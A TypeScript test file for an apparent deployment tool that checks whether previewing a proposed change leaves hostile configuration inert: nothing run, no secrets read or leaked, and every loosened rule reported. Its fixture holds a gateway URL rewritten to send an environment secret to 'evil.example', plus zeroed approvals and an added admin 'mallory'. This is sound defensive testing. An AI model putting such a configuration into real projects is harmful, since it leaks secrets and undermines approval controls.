import { writeFileSync } from 'node:fs';
import { join, posix } from 'node:path';
import { expect, test } from 'vitest';
import { testSystem } from '../support/servers.ts';
import { workflowFile } from '../support/workflows.ts';
import { configuration, createProposal } from './previewed.ts';

const canary = 'canary-4f1d';

/** Loosens the rules, lets a provider of its own in, and asks for secrets where everybody would see them. */
const hostile = `${configuration('version: latest, approvals: { min_approvals: 0, allowed_approvers: [mallory] }')
  .replace('https://gateway.example', 'https://evil.example/?${env.CANARY}')
  .replace('project: invoices', 'project: "${env.CANARY}"')}
providers: { evil: { path: ./evil.js } }
backups: { provider: evil }
team: { mallory: { role: admin } }
`;

test('nothing that the head says of the configuration counts, runs or is resolved; all of it is told', async () => {
  const asked: string[] = [];
  const started: string[] = [];
  const real = testSystem();
  const proposal = createProposal(
    { 'workflows/a.json': workflowFile('a') },
    {
      'workflows/a.json': workflowFile('a', ['read', 'sort']),
      'm3forge.yaml': hostile,
      'evil.js': 'throw new Error("run")',
    },
    {
      env: (name) => {
        asked.push(name);
        return name === 'CANARY' || name.endsWith('_URL') ? `postgresql://u:${canary}@127.0.0.1:9/x` : real.env(name);
      },
      processes: {
        ...real.processes,
        run: (program, args, options) => {
          started.push(program);
          return real.processes.run(program, args, options);
        },
        start: (program, args, options) => {
          started.push(program);
          return real.processes.start(program, args, options);
        },
        startModule: () => {
          throw new Error('no module of a head is started');
        },
      },
    },
  );
  writeFileSync(join(proposal.directory, '.env'), `SECRET=${canary}\n`);
  const document = await proposal.preview();

  expect(document.project).toBe('invoices');
  expect(document.targets).toMatchObject([
    { target: 'staging', reason: 'by itself, once it is tagged' },
    { target: 'production', reason: 'when somebody applies it, with 2 approvals', gateways: ['eu'] },
  ]);
  expect(document.configuration.filter(({ guards }) => guards).map(({ key, what }) => `${what} ${key}`)).toEqual(
    expect.arrayContaining([
      'added providers.evil.path',
      'added team.mallory.role',
      'added backups.provider',
      'changed targets.production.approvals.min_approvals',
      'added targets.production.approvals.allowed_approvers',
    ]),
  );
  expect(JSON.stringify(document)).not.toContain(canary);
  expect(new Set(started)).toEqual(new Set(['git']));
  // Where programs are and how Git is set up, and nothing of anybody's secrets.
  expect(
    asked.filter((name) => !/^(PATH|HOME|TMPDIR|SystemRoot|XDG_CONFIG_HOME|GIT_CONFIG_GLOBAL)$/.test(name)),
  ).toEqual([]);
});

test('a program that would run once it is merged is told like a rule, though the configuration stays as it is', async () => {
  const own = `${configuration()}providers: { mine: { path: ./providers/mine/ }, same: { path: providers/same }, other: { package: other } }\n`;
  const before = {
    'm3forge.yaml': own,
    ...{ 'providers/mine/index.js': '1', 'providers/same/index.js': '1', 'providers/mine.js': '1' },
    'm3forge.lock': '{"version": 1, "providers": {}}',
  };
  const after = { ...before, 'providers/mine/new.js': '2', 'providers/mine.js': '2' };
  const { preview } = createProposal(before, { ...after, 'm3forge.lock': '{"version": 1, "providers": { }}' });
  const { configuration: notes } = await preview();
  expect(notes).toEqual([
    { path: 'm3forge.lock', key: 'providers', what: 'changed', guards: true, value: null },
    { path: 'providers/mine', key: 'providers.mine', what: 'changed', guards: true, value: null },
  ]);
});

test.each([['rules.yaml'], ['./rules.yaml'], ['more/../rules.yaml'], ['rules.txt'], ['more//rules.yml']])(
  'a rule that is loosened in an included file is told, however it is written that it is included: %s',
  async (written) => {
    const [main = '', targets = ''] = configuration().split('targets:\n');
    const path = posix.normalize(written);
    const before = {
      'm3forge.yaml': `${main}include: [${written}]\n`,
      'more/README.md': '',
      [path]: `targets:\n${targets}`,
    };
    const { preview } = createProposal(before, { ...before, [path]: before[path]?.replace(': 2', ': 0') ?? '' });
    const { configuration: notes } = await preview();
    expect(notes).toMatchObject([{ path, key: 'targets.production.approvals.min_approvals', guards: true }]);
  },
);

test('what the base has made of its rules meanwhile is no doing of the head', async () => {
  const text = configuration();
  const before = { 'm3forge.yaml': text };
  const proposal = createProposal(before, { 'm3forge.yaml': text.replace('version: latest', 'version: ^1.0') });
  proposal.goOn({ 'm3forge.yaml': text.replace('{ type: staging,', '{ type: staging, display_name: Here,') });
  const { configuration: notes } = await proposal.preview();
  expect(notes.map(({ key }) => key)).toEqual(['targets.staging.version']);
});
